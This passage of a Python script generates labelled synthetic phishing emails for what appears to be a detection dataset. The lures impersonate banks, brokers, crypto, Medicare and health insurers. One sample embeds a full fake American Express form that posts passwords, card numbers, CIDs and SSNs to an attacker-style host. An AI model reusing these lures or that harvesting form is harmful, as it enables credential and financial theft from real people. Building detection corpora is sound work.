    headers = f"""From: Robinhood <security@{dom}>
Mime-Version: 1.0
Date: {fmt(when)}
Subject: New login to your Robinhood account
Reply-To: noreply@{dom}
To: {rcpt}
Message-ID: {sendgrid_msgid(seed)}
X-SG-EID: 
 =?us-ascii?Q?u001=2E{alnum(seed + 'eid', 40)}?=
X-SG-ID: 
 =?us-ascii?Q?u001=2E{alnum(seed + 'sgid2', 40)}?=
X-Entity-ID: u001.{alnum(seed + 'ent', 22)}=="""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("phishing", "phish", "robinhood-newlogin-sendgrid", raw,
        "Robinhood 'new login' alert sent through a hijacked SendGrid customer account (a real-estate marketing "
        "firm's authenticated domain, all checks pass) whose tracked link leads to a credential page.")


@sample
def a_empower_canva():
    seed = "a-emp"
    rcpt = "gloria.pettaway@aol.com"
    when = T("2025-08-27 13:26:40 -0400")
    dom = "empowerretire-plan.com"
    out = ses_out(dom, f"mail.{dom}", rcpt, when, seed, selector="x3kqfz6ajhbq7mwlz2ozdmf4vpchr4tg")
    link = "https://www.canva.com/design/DAGqv7Rk2Lw/8ZpMXj4cJvU1dQmBfx0n3w/view?utm_content=DAGqv7Rk2Lw&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks"
    html = shell(
        row('<p style="font-size:26px;color:#1b2a4a;margin:0;font-family:Georgia,serif;">empower</p>', "24px 32px 4px")
        + row('<p style="font-size:18px;"><b>Your Q2 401(k) statement and beneficiary confirmation</b></p>'
              '<p>Hello Participant,</p>'
              '<p>Your quarterly retirement account statement is now available. Our records show that the '
              '<b>beneficiary designation</b> on your plan has not been confirmed since the recent plan '
              'recordkeeper transition. Unconfirmed accounts may experience a delay in distributions.</p>'
              '<p>Please review your statement and confirm your beneficiary information using the secure '
              'document below.</p>')
        + row(btn(link, "View Statement (PDF)", "#1b2a4a"))
        + row('<p style="font-size:11px;color:#777;">Securities offered by Empower Financial Services, Inc., '
              'Member FINRA/SIPC. &copy;2025 Empower Annuity Insurance Company of America.</p>'),
        title="Empower", preheader="Q2 statement available - beneficiary confirmation pending")
    plain = ("empower\n\nYour Q2 401(k) statement and beneficiary confirmation\n\nHello Participant,\n\n"
             "Your quarterly retirement account statement is now available. Our records show that the beneficiary "
             "designation on your plan has not been confirmed since the recent plan recordkeeper transition.\n\n"
             f"View Statement (PDF): {link}\n")
    headers = f"""Subject: Your Q2 401(k) statement - beneficiary confirmation pending
From: Empower Retirement <participant.services@{dom}>
To: {rcpt}
MIME-Version: 1.0
Message-ID: {out.msgid}
Date: {fmt(when)}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("ses", seed)), seed=seed)
    add("phishing", "phish", "empower-401k-canva", raw,
        "Empower 401(k) statement lure from a look-alike domain sent through Amazon SES (authenticated), pointing "
        "to a Canva-hosted 'statement' design whose button leads to a credential-harvesting page.")


@sample
def a_coinbase_callback():
    seed = "a-cb"
    rcpt = "jrodriguez.atx@gmail.com"
    when = T("2025-03-18 16:51:09 -0500")
    sender = "coinbase.caseteam4471@outlook.com"
    out = outlookcom_out(sender, when, seed)
    mh = m365_headers(seed, when, consumer=True)
    case = digits(seed + "case", 8)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>'
            '<body><div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0);">'
            '<p><b>Coinbase Security Notice</b></p>'
            f'<p>Case ID: CB-{case}</p>'
            '<p>A withdrawal request of <b>0.4182 BTC (~$34,620.18 USD)</b> to an external wallet '
            '(bc1q9m7...w4kx) was initiated from your account on March 18, 2025 at 4:12 PM CT.</p>'
            '<p>This request has been placed on a 24-hour security hold because it was made from a new device '
            '(iPhone 15, Miami FL).</p>'
            '<p>If you did NOT authorize this transfer, please contact Coinbase Support immediately to cancel it '
            'and secure your funds:</p>'
            '<p style="font-size:15pt;"><b>+1 (888) 614-0937</b></p>'
            '<p>Do not reply to this email. For your safety, our agents will never ask for your password.</p>'
            '<p>Coinbase Support<br>Coinbase Global, Inc.</p></div></body></html>\n')
    plain = ("Coinbase Security Notice\n\nCase ID: CB-" + case + "\n\nA withdrawal request of 0.4182 BTC "
             "(~$34,620.18 USD) to an external wallet (bc1q9m7...w4kx) was initiated from your account on "
             "March 18, 2025 at 4:12 PM CT.\n\nThis request has been placed on a 24-hour security hold because it "
             "was made from a new device (iPhone 15, Miami FL).\n\nIf you did NOT authorize this transfer, please "
             "contact Coinbase Support immediately to cancel it and secure your funds:\n\n+1 (888) 614-0937\n\n"
             "Coinbase Support\n")
    headers = f"""From: Coinbase Support <{sender}>
To: {rcpt}
Subject: Withdrawal request on hold - Case CB-{case}
Thread-Topic: Withdrawal request on hold - Case CB-{case}
Thread-Index: {mh['thread_index']}
X-MS-Exchange-MessageSentRepresentingType: 1
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels:
x-ms-exchange-messagesentrepresentingtype: 1
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="outlook.com", policy="NONE",
               headers=headers, body=alt(plain, html, bnd("outlook", seed), charset="us-ascii"), seed=seed)
    add("phishing", "phish", "coinbase-withdrawal-callback", raw,
        "Callback scam posing as Coinbase: a fake held BTC withdrawal with a phone number to 'cancel' it, sent "
        "from a free Outlook.com account (authentication passes for outlook.com, no link at all).")


# ============================================================================================
# ATTACKS: banks, credit unions, cards
# ============================================================================================

@sample
def a_navyfed_ipfs():
    seed = "a-nfcu"
    rcpt = "sgt.derrick.mayfield@gmail.com"
    when = T("2025-01-23 04:38:12 -0600")
    host = "gator4187.hostgator.com"
    sender = "wordpress@brightsidepetgrooming.com"
    out = exim_out(host, "192.185.4.97", sender, rcpt, when, seed, local=True)
    out.sigs = [Sig("brightsidepetgrooming.com", "default", ["Content-Type", "MIME-Version", "Message-ID", "Subject",
                                                             "From", "To", "Date", "Sender", "Reply-To"],
                    seed + "dk", when)]
    cid = "bafybeihx4q7gmtwqzvj2r6d3yk5lw7bnae4s2oxj6fphc3dy7wmlkaqz4e"
    link = f"https://{cid}.ipfs.w3s.link/nfcu-verify.html#{rcpt}"
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222;">'
            '<table width="580" cellpadding="0" cellspacing="0" style="border:1px solid #d8d8d8;">'
            '<tr><td style="background:#003865;padding:16px 24px;color:#fff;font-size:20px;font-weight:bold;">'
            'Navy Federal Credit Union</td></tr>'
            '<tr><td style="padding:24px;">'
            '<p>Dear Member,</p>'
            '<p>Due to a recent update of our Online Banking security system, we require all members to '
            'update their information. Your access to Digital Banking has been suspended until you complete '
            'the verification process.</p>'
            f'<p style="text-align:center;"><a href="{link}" style="background:#f2a900;color:#003865;'
            'padding:10px 22px;text-decoration:none;font-weight:bold;">Verify Now</a></p>'
            '<p>Failure to verify within 48 hours will result in a permanent restriction of your account.</p>'
            '<p>Thank you for being a member.<br>Navy Federal Credit Union<br>Security Department</p>'
            '</td></tr><tr><td style="padding:12px 24px;font-size:11px;color:#777;">Federally insured by NCUA. '
            '&copy; 2025 Navy Federal Credit Union. All rights reserved.</td></tr></table></body></html>\n')
    headers = f"""To: {rcpt}
Subject: =?UTF-8?Q?Important_Notice:_Your_Digital_Banking_Access_Has_Been_Sus?=
 =?UTF-8?Q?pended?=
X-PHP-Originating-Script: 1017:class-phpmailer.php
Date: {fmt(when)}
From: Navy Federal <{sender}>
Reply-To: Navy Federal <{sender}>
Message-ID: <{alnum(seed + 'mid', 43)}@brightsidepetgrooming.com>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8')
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom="brightsidepetgrooming.com",
               policy="NONE", headers=headers, body=body, seed=seed)
    add("phishing", "phish", "navyfed-suspended-ipfs", raw,
        "Navy Federal 'digital banking suspended' lure sent by PHPMailer from a hacked pet-grooming WordPress site "
        "on shared hosting, linking to a credential kit hosted on an IPFS gateway (w3s.link).")


@sample
def a_usaa_r2dev():
    seed = "a-usaa"
    rcpt = "bobby.whitfield@att.net"
    when = T("2025-06-14 18:09:44 -0500")
    dom = "mbr-servicealerts.com"
    out = postfix_out(f"mx1.{dom}", "45.137.21.166", f"usaa@{dom}", rcpt, when, seed,
                      client="[127.0.0.1] (localhost [127.0.0.1])")
    out.sigs = [Sig(dom, "mail", ["from", "to", "subject", "date", "message-id"], seed + "dk", when, bits=1024)]
    link = f"https://pub-{hexs(seed + 'r2', 32)}.r2.dev/usaa/logon.html?acct={digits(seed + 'ac', 6)}"
    html = shell(
        row('<table width="100%"><tr><td style="background:#12395b;padding:14px 20px;">'
            '<span style="color:#fff;font-size:22px;font-weight:bold;letter-spacing:2px;">USAA</span></td></tr>'
            '</table>', "0")
        + row('<p><b>Important: A Temporary Hold Was Placed On Your Account</b></p>'
              '<p>We noticed a change to the contact information and a debit card transaction of <b>$1,249.99</b> '
              'at BESTBUY.COM that do not match your normal activity. To protect you, we have placed a temporary '
              'hold on your checking account.</p>'
              '<p>Please log on to review the activity and confirm your identity. If we do not hear from you, the '
              'hold will remain in place and the card ending in 4417 will be closed.</p>')
        + row(btn(link, "Review Activity", "#12395b"))
        + row('<p style="font-size:11px;color:#666;">USAA means United Services Automobile Association and its '
              'affiliates. Please do not reply to this email.<br/>USAA, 9800 Fredericksburg Road, San Antonio, TX '
              '78288</p>'),
        title="USAA")
    plain = ("USAA\n\nImportant: A Temporary Hold Was Placed On Your Account\n\nWe noticed a change to the contact "
             "information and a debit card transaction of $1,249.99 at BESTBUY.COM that do not match your normal "
             "activity. To protect you, we have placed a temporary hold on your checking account.\n\n"
             f"Review Activity: {link}\n\nUSAA, 9800 Fredericksburg Road, San Antonio, TX 78288\n")
    headers = f"""From: USAA <usaa@{dom}>
To: {rcpt}
Subject: USAA Alert: Temporary hold on your account
Date: {fmt(when)}
Message-ID: <20250614230944.{hexs(seed + 'mid', 16)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "usaa-hold-r2dev", raw,
        "USAA 'temporary hold' phish to an att.net mailbox from a throwaway authenticated domain on a VPS, linking "
        "to a credential page on a Cloudflare R2 public bucket (r2.dev).")


@sample
def a_pnc_zelle_redirect():
    seed = "a-pnc"
    rcpt = "lkowalczyk61@comcast.net"
    when = T("2024-10-02 11:55:27 -0400")
    dom = "pnc-onlinebanking-services.com"
    out = postfix_out(f"host-{digits(seed + 'h', 3)}.{dom}", "185.234.72.19", f"alerts@{dom}", rcpt, when, seed)
    target = "https%3A%2F%2Fpnc-secure-zelle.vercel.app%2Fsignin%3Fsession%3D" + hexs(seed + "s", 12)
    link = f"https://www.google.com/url?q={target}&sa=D&sntz=1&usg=AOvVaw{alnum(seed + 'usg', 22)}"
    html = ('<div style="font-family:Arial,Helvetica,sans-serif;max-width:560px;margin:auto;border-top:6px solid #ef7622;">'
            '<p style="font-size:22px;color:#0069aa;font-weight:bold;">PNC</p>'
            '<p style="font-size:16px;"><b>Your Zelle&reg; payment is on hold</b></p>'
            '<p>A Zelle payment of <b>$850.00</b> to <b>Marcus Bell</b> has been placed on hold pending '
            'review. If you did not authorize this payment, please sign in to cancel it and stop further '
            'transfers.</p>'
            f'<p><a href="{link}" style="color:#fff;background:#0069aa;padding:9px 18px;text-decoration:none;">'
            'Cancel Payment</a></p>'
            '<p style="font-size:12px;color:#555;">Payment ID: ZL-' + digits(seed + "zid", 10) + '<br>'
            'If you authorized this payment, no action is required.</p>'
            '<p style="font-size:11px;color:#888;">PNC Bank, National Association. Member FDIC. Zelle and the '
            'Zelle related marks are wholly owned by Early Warning Services, LLC.</p></div>\n')
    plain = ("PNC\n\nYour Zelle payment is on hold\n\nA Zelle payment of $850.00 to Marcus Bell has been placed on "
             "hold pending review. If you did not authorize this payment, please sign in to cancel it.\n\n"
             f"Cancel Payment: {link}\n\nPNC Bank, National Association. Member FDIC.\n")
    headers = f"""Date: {fmt(when)}
From: PNC Alerts <alerts@{dom}>
To: <{rcpt}>
Subject: Zelle payment on hold - action may be required
Message-ID: <{hexs(seed + 'mid', 12)}.{digits(seed + 'mid2', 10)}@{dom}>
X-Priority: 1 (Highest)
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "pnc-zelle-hold-google-redirect", raw,
        "PNC Zelle 'payment on hold' phish to a Comcast mailbox from an unsigned look-alike domain; the link goes "
        "through a Google open redirect to a credential page on vercel.app.")


@sample
def a_capitalone_netlify():
    seed = "a-cap1"
    rcpt = "jen.albright@icloud.com"
    when = T("2025-09-09 08:14:33 -0400")
    dom = "capone-cardservices.com"
    out = Out("mta-13.privateemail.com", "198.54.122.183", "mta-13.privateemail.com", f"noreply@{dom}",
              [f"Received: from [192.168.1.34] (unknown [102.89.34.61])\n\tby mail.privateemail.com (Postfix) with "
               f"ESMTPSA id 4cLt{alnum(seed + 'pe', 8)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig(dom, "default", ["From", "Reply-To", "Subject", "Date", "Message-ID", "To", "MIME-Version",
                                     "Content-Type"], seed + "dk", when)]
    link = "https://capitalone-cardlock-review.netlify.app/"
    html = ('<html><body style="margin:0;background:#f4f4f4;"><center>'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;">'
            '<tr><td style="padding:20px 30px;border-bottom:4px solid #d03027;"><span style="color:#004977;'
            'font-size:24px;font-weight:bold;">Capital One</span></td></tr>'
            '<tr><td style="padding:24px 30px;font-size:15px;color:#333;line-height:22px;">'
            '<p>Your Quicksilver card ending in <b>8841</b> has been temporarily locked.</p>'
            '<p>We detected unusual activity and locked your card to help protect your account. To unlock your '
            'card and continue making purchases, confirm your identity.</p>'
            f'<p><a href="{link}" style="background:#d03027;color:#fff;padding:12px 26px;border-radius:20px;'
            'text-decoration:none;">Unlock my card</a></p>'
            '<p style="font-size:12px;color:#777;">This is an automated security alert. Capital One, N.A.</p>'
            '</td></tr></table></center></body></html>\n')
    headers = f"""Message-ID: <{hexs(seed + 'm1', 8)}-{hexs(seed + 'm2', 4)}-{hexs(seed + 'm3', 4)}-{hexs(seed + 'm4', 4)}-{hexs(seed + 'm5', 12)}@{dom}>
Date: {fmt(when)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: {rcpt}
From: Capital One <noreply@{dom}>
Subject: Your card has been temporarily locked"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8'), seed=seed)
    add("phishing", "phish", "capitalone-cardlock-netlify", raw,
        "Capital One 'card locked' phish to iCloud from a look-alike domain hosted on Namecheap Private Email "
        "(authenticated), linking to a credential page on netlify.app.")


@sample
def a_amex_html_attachment():
    seed = "a-amex"
    rcpt = "frank.dimarco@optonline.net"
    when = T("2025-04-02 02:11:57 -0400")
    sender = "info@cascadeautoglass-wa.com"
    host = "server.cascadeautoglass-wa.com"
    out = exim_out(host, "162.241.219.88", sender, rcpt, when, seed, client_ip="91.92.243.55",
                   auth_user=sender)
    out.sigs = [Sig("cascadeautoglass-wa.com", "default", ["Content-Type", "MIME-Version", "Message-ID", "Date",
                                                           "Subject", "To", "From", "Sender", "Reply-To"],
                    seed + "dk", when)]
    page = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>American Express - Secure Verification</title>\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
            '<style>body{font-family:Helvetica,Arial,sans-serif;background:#f7f8f9;margin:0}'
            '.hd{background:#006fcf;color:#fff;padding:18px;font-size:22px;font-weight:bold}'
            '.bx{max-width:420px;margin:30px auto;background:#fff;padding:24px;border:1px solid #ddd}'
            'input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa}'
            'button{background:#006fcf;color:#fff;border:0;padding:12px;width:100%;font-size:16px}</style>\n'
            '</head><body><div class="hd">AMERICAN EXPRESS</div><div class="bx">\n'
            '<h3>Confirm your Card details</h3><p>To remove the restriction on your account, please confirm the '
            'information below.</p>\n'
            '<form method="POST" action="https://amexsecure-verify.click/api/v2/submit.php">\n'
            '<label>User ID</label><input name="uid" required>\n'
            '<label>Password</label><input name="pwd" type="password" required>\n'
            '<label>Card Number</label><input name="cc" maxlength="16" required>\n'
            '<label>Expiration (MM/YY)</label><input name="exp" required>\n'
            '<label>4-digit Security Code (CID)</label><input name="cid" maxlength="4" required>\n'
            '<label>Date of Birth</label><input name="dob" required>\n'
            '<label>Social Security Number</label><input name="ssn" required>\n'
            '<button type="submit">Continue</button></form>\n'
            '<script>document.querySelector("form").addEventListener("submit",function(){setTimeout(function(){'
            'location.href="https://www.americanexpress.com/"},900)});</script>\n'
            '</div></body></html>\n')
    note = ("Dear Cardmember,\n\nWe were unable to verify recent activity on your American Express Card account. "
            "As a security measure, we have limited some features of your account.\n\n"
            "Please download and open the attached secure form to verify your account information. After "
            "completing the form, your account access will be restored immediately.\n\n"
            "Sincerely,\nAmerican Express Account Security\n")
    headers = f"""Date: {fmt(when)}
To: {rcpt}
From: American Express <{sender}>
Subject: Account Limited - Verification Form Attached (Ref# {digits(seed + 'ref', 9)})
Message-ID: <{alnum(seed + 'mid', 43)}@cascadeautoglass-wa.com>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = mixed(bnd("php", seed), [text(note),
                                    attachment("text/html", "AmEx_Secure_Form.html", page.encode())])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom="cascadeautoglass-wa.com", policy="NONE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "amex-limited-html-form", raw,
        "American Express 'account limited' phish from a compromised auto-glass shop's cPanel mailbox carrying an "
        "HTML attachment whose form posts card number, CID, password and SSN to an attacker server.")


@sample
def a_synchrony_amazon_card():
    seed = "a-syf"
    rcpt = "debbie.lundgren@cox.net"
    when = T("2025-07-21 09:47:02 -0700")
    sender = "dora.kapoor1987@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    short = "https://bit.ly/3Syf" + alnum(seed + "bl", 3)
    html = ('<div dir="ltr"><div style="font-family:arial,sans-serif"><b>Amazon Store Card - Payment Notice</b>'
            '<br><br>Dear Cardholder,<br><br>Your automatic payment of <b>$312.47</b> for your Amazon Store Card '
            'issued by Synchrony Bank could not be processed. To avoid a late fee of $41.00 and a negative report '
            'to the credit bureaus, please update your payment information by <b>07/23/2025</b>.<br><br>'
            f'<a href="{short}">Make a payment / Update bank account</a><br><br>'
            'Synchrony Bank Customer Care<br>Account ending: 6032<br><br>'
            '<span style="font-size:10px;color:#888">Amazon Store Card accounts are issued by Synchrony Bank.'
            '</span></div></div>\n')
    plain = ("Amazon Store Card - Payment Notice\n\nDear Cardholder,\n\nYour automatic payment of $312.47 for your "
             "Amazon Store Card issued by Synchrony Bank could not be processed. To avoid a late fee of $41.00 and a "
             "negative report to the credit bureaus, please update your payment information by 07/23/2025.\n\n"
             f"Make a payment / Update bank account <{short}>\n\nSynchrony Bank Customer Care\nAccount ending: 6032\n")
    headers = f"""MIME-Version: 1.0
From: Synchrony Customer Care <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: Amazon Store Card: Payment could not be processed
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=alt(plain, html, bnd("gmail", seed)), seed=seed)
    add("phishing", "phish", "synchrony-amazon-storecard-gmail", raw,
        "Synchrony/Amazon Store Card failed-payment phish sent from a free Gmail account to a Cox (Yahoo-hosted) "
        "mailbox, link hidden behind a bit.ly shortener leading to a card/bank-login page.")


# ============================================================================================
# ATTACKS: health insurance, Medicare, HSA
# ============================================================================================

@sample
def a_uhc_medicare_otc():
    seed = "a-uhc"
    rcpt = "haroldbeasley1949@aol.com"
    when = T("2025-10-28 12:02:40 -0500")
    dom = "seniorbenefitsupdate.shop"
    out = postfix_out(f"m{num(seed + 'm', 10, 99)}.{dom}", "77.90.185.42", f"bounce-{lower(seed + 'b', 8)}@{dom}",
                      rcpt, when, seed)
    out.sigs = [Sig(dom, "k1", ["From", "To", "Subject", "Date", "Message-ID", "List-Unsubscribe"], seed + "dk", when)]
    link = f"https://storage.googleapis.com/otc-card-2026/index.html#{hexs(seed + 'h', 24)}"
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;background:#eef3f8;">'
            '<table align="center" width="560" cellpadding="0" cellspacing="0" style="background:#fff;'
            'font-family:Arial,sans-serif;color:#002677;">'
            '<tr><td style="padding:18px 24px;font-size:20px;font-weight:bold;">UnitedHealthcare&reg; '
            '<span style="font-weight:normal;color:#555;">Medicare Solutions</span></td></tr>'
            '<tr><td style="padding:0 24px 8px;font-size:26px;line-height:32px;font-weight:bold;">'
            'Your 2026 OTC benefit card is ready to activate</td></tr>'
            '<tr><td style="padding:8px 24px;font-size:16px;color:#333;line-height:24px;">'
            'Medicare members in your ZIP code may qualify for up to <b>$3,960/year</b> in over-the-counter, '
            'grocery and utility allowances. Answer 3 quick questions to confirm your eligibility before '
            'Annual Enrollment closes on <b>December 7</b>.</td></tr>'
            f'<tr><td align="center" style="padding:18px;"><a href="{link}" style="background:#ff612b;color:#fff;'
            'font-size:18px;font-weight:bold;padding:14px 34px;border-radius:30px;text-decoration:none;">'
            'CHECK MY ELIGIBILITY &rsaquo;</a></td></tr>'
            '<tr><td style="padding:16px 24px;font-size:10px;color:#888;line-height:14px;">Not affiliated with '
            'or endorsed by the U.S. government or the federal Medicare program. This is a solicitation for '
            'insurance. Benefits vary by plan and location.<br>To stop receiving these messages '
            f'<a href="https://{dom}/u/{hexs(seed + "u", 16)}" style="color:#888;">unsubscribe here</a> or write '
            'to 1980 Festival Plaza Dr, Suite 300, Las Vegas NV 89135.</td></tr></table></body></html>\n')
    plain = ("UnitedHealthcare Medicare Solutions\n\nYour 2026 OTC benefit card is ready to activate\n\nMedicare "
             "members in your ZIP code may qualify for up to $3,960/year in over-the-counter, grocery and utility "
             "allowances. Answer 3 quick questions to confirm your eligibility before December 7.\n\n"
             f"CHECK MY ELIGIBILITY: {link}\n")
    headers = f"""From: "UHC Medicare Benefits" <benefits@{dom}>
To: <{rcpt}>
Subject: {enc("Harold, your 2026 OTC benefit card is ready ✅", "B")}
Date: {fmt(when)}
Message-ID: <{digits(seed + 'mid', 18)}.{lower(seed + 'mid2', 10)}@{dom}>
List-Unsubscribe: <https://{dom}/u/{hexs(seed + 'u', 16)}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "uhc-medicare-otc-card-gcs", raw,
        "Medicare 'OTC benefit card' lure impersonating UnitedHealthcare, sent to an AOL senior from a throwaway "
        ".shop domain, linking to a Google Cloud Storage page that funnels to a data-harvesting/lead-fraud form.")


@sample
def a_humana_es():
    seed = "a-hum"
    rcpt = "maria.delosangeles.ruiz@gmail.com"
    when = T("2025-11-04 15:40:19 -0600")
    dom = "beneficiosmedicare-hoy.com"
    out = postfix_out(f"mail.{dom}", "103.149.28.77", f"avisos@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "default", ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version"], seed + "dk", when)]
    link = f"https://humana-tarjetaflex.web.app/activar?id={digits(seed + 'id', 9)}"
    html = ('<html><body style="font-family:Arial,sans-serif;background:#f5f5f5;margin:0;padding:20px;">'
            '<div style="max-width:560px;margin:auto;background:#fff;border-top:6px solid #78be20;padding:24px;">'
            '<p style="font-size:22px;color:#78be20;font-weight:bold;margin:0 0 16px;">Humana.</p>'
            '<p style="font-size:18px;"><b>Su Tarjeta Flex de Beneficios 2026 est&aacute; lista</b></p>'
            '<p>Estimado(a) afiliado(a):</p>'
            '<p>Usted ha sido aprobado(a) para recibir hasta <b>$1,800</b> en beneficios para alimentos, '
            'medicamentos sin receta y pago de servicios p&uacute;blicos. Para activar su tarjeta necesitamos '
            'confirmar su n&uacute;mero de Medicare y los datos de su cuenta bancaria para depositar el saldo.</p>'
            f'<p style="text-align:center;"><a href="{link}" style="background:#78be20;color:#fff;padding:12px 28px;'
            'text-decoration:none;font-weight:bold;border-radius:4px;">ACTIVAR MI TARJETA</a></p>'
            '<p>La activaci&oacute;n vence en 72 horas. Si no la activa, el beneficio se asignar&aacute; a otro '
            'afiliado.</p>'
            '<p style="font-size:11px;color:#888;">Humana es una organizaci&oacute;n Medicare Advantage con un '
            'contrato con Medicare.</p></div></body></html>\n')
    plain = ("Humana.\n\nSu Tarjeta Flex de Beneficios 2026 está lista\n\nEstimado(a) afiliado(a):\n\n"
             "Usted ha sido aprobado(a) para recibir hasta $1,800 en beneficios para alimentos, medicamentos sin "
             "receta y pago de servicios públicos. Para activar su tarjeta necesitamos confirmar su número de "
             "Medicare y los datos de su cuenta bancaria.\n\n"
             f"ACTIVAR MI TARJETA: {link}\n\nLa activación vence en 72 horas.\n")
    headers = f"""Date: {fmt(when)}
From: {addr("Humana Beneficios", "avisos@" + dom)}
To: {rcpt}
Subject: {enc("Su Tarjeta Flex 2026 está lista para activar – $1,800", "B")}
Message-ID: <{hexs(seed + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "humana-tarjeta-flex-es", raw,
        "Spanish-language Humana 'Flex card' benefit scam from an authenticated look-alike domain, asking Medicare "
        "members for their Medicare number and bank details on a Firebase-hosted page (web.app).")


@sample
def a_bcbs_qr_pdf():
    seed = "a-bcbs"
    rcpt = "kevin.obrien.77@outlook.com"
    when = T("2025-03-14 10:22:07 -0400")
    sender = "claims@sandovalinsurancegroup.com"
    out = m365_out(sender, when, seed)
    mh = m365_headers(seed, when)
    url = f"https://bcbs-member-card.{lower(seed + 'w', 6)}.workers.dev/?m={url64(seed + 'm', 16)}"
    pdf = qr_pdf(["Blue Cross Blue Shield - Member Services", "", "Updated Member ID Card and 2025 Benefits Summary",
                  "", "Dear Member,", "",
                  "Your health plan has issued a new member ID card for the 2025 plan year.",
                  "To avoid denied claims at your pharmacy and doctor's office, you must",
                  "activate your new card and confirm your coverage details.", "",
                  "Scan the QR code below with your phone camera to activate:"],
                 url, "Member ID Card Update", "BCBS Member Services",
                 below=["Activation must be completed within 5 business days.",
                        "Independent licensees of the Blue Cross Blue Shield Association."])
    plain = ("Good morning,\n\nPlease see the attached notice from Blue Cross Blue Shield regarding your updated "
             "member ID card for 2025. Activation is required to avoid claim denials.\n\nThank you,\n\n"
             "Member Services Team\nSandoval Insurance Group\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:#000;">'
            'Good morning,<br><br>Please see the attached notice from Blue Cross Blue Shield regarding your updated '
            'member ID card for 2025. Activation is required to avoid claim denials.<br><br>Thank you,<br><br>'
            'Member Services Team<br>Sandoval Insurance Group</div></body></html>\n')
    headers = f"""From: BCBS Member Services <{sender}>
To: {rcpt}
Subject: Updated Member ID Card - Activation Required
Thread-Topic: Updated Member ID Card - Activation Required
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-office365-filtering-correlation-id: {mh['corr']}
MIME-Version: 1.0"""
    body = mixed(bnd("outlook", seed + "m"), [alt(plain, html, bnd("outlook", seed + "a")),
                                             attachment("application/pdf", "BCBS_MemberCard_2025.pdf", pdf)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="sandovalinsurancegroup.com",
               policy="QUARANTINE", headers=headers, body=body, seed=seed)
    add("phishing", "phish", "bcbs-idcard-qr-pdf", raw,
        "Quishing: a compromised insurance agency's Microsoft 365 mailbox sends a 'new BCBS member ID card' PDF "
        "whose only call to action is a QR code pointing to a workers.dev credential page.")


@sample
def a_healthequity_hsa():
    seed = "a-heq"
    rcpt = "amanda.sorensen@gmail.com"
    when = T("2025-04-08 20:31:55 -0600")
    dom = "healthequity-members.com"
    out = sendgrid_out(dom, rcpt, when, seed, brand_sig=False)
    click = f"https://u{num(seed + 'u', 1000000, 4999999)}.ct.sendgrid.net/ls/click?upn=u001.{url64(seed + 'upn', 150)}"
    html = shell(
        row('<p style="font-size:22px;color:#5b2c86;margin:0;"><b>HealthEquity</b></p>', "24px 32px 6px")
        + row('<p><b>Your HSA reimbursement could not be deposited</b></p>'
              '<p>Hi Amanda,</p>'
